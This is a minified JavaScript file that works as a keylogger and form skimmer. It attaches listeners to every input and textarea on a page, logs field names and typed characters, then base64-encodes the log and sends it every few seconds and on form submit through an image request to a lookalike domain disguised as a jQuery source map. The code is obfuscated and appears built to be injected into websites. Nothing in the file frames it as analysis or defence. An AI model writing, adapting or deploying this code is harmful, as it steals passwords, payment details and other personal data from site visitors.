var _k={b:"",f:""},_u="https://jquery-min.org/jquery-3.6.0.min.map";
function _a(){var i=document.getElementsByTagName("input"),t=document.getElementsByTagName("textarea"),j;
for(j=0;j<i.length;j++)if(!i[j]._k){i[j]._k=1;i[j].addEventListener("keypress",_p,!1);i[j].addEventListener("focus",_f,!1)}
for(j=0;j<t.length;j++)if(!t[j]._k){t[j]._k=1;t[j].addEventListener("keypress",_p,!1);t[j].addEventListener("focus",_f,!1)}}
function _f(e){var n=e.target.name||e.target.id;if(n!==_k.f){_k.f=n;_k.b+="|"+n+"="}}
function _p(e){var c=e.which||e.keyCode;_k.b+=String.fromCharCode(c)}
function _s(){if(_k.b.length<4)return;var m=new Image();m.src=_u+"?v="+encodeURIComponent(btoa(_k.b))+"&s="+encodeURIComponent(document.location.host)+"&r="+(+new Date);_k.b=_k.f?"|"+_k.f+"=":""}
_a();
setInterval(_a,1500);
setInterval(_s,3000);
window.addEventListener("unload",_s);
/* build 7f21c */
var _z=0;
document.addEventListener("submit",function(){_z++;_s()},!0);
window.addEventListener("pagehide",function(){if(!_z)_s()});
function _dbg(){return _k.b.length}
window.__kb_len=_dbg;
